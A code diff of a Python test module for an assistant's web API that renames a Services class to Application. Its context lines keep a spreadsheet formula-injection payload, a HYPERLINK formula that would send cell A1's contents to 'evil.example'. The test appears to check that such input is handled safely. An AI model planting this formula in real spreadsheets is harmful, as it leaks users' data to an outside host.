@@ -10,9 +10,10 @@ import sqlite3
 import pytest
 from fastapi.testclient import TestClient
 
+from assistant.application import Application
 from assistant.config import Settings
 from assistant.store.accounts import AccountStore, User
-from assistant.web.api import Services, create_api
+from assistant.web.api import create_api
 from tests.conftest import TESTS
 
 JINAN = json.loads((TESTS / "data" / "profiles" / "jinan_software.json").read_text())
@@ -24,7 +25,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 @pytest.fixture(scope="module")
 def env(tmp_path_factory):
     settings = Settings(data_dir=tmp_path_factory.mktemp("inject"), embeddings="hashing")
-    services = Services(settings)
+    services = Application(settings)
     return settings, services, TestClient(create_api(services))
 
 
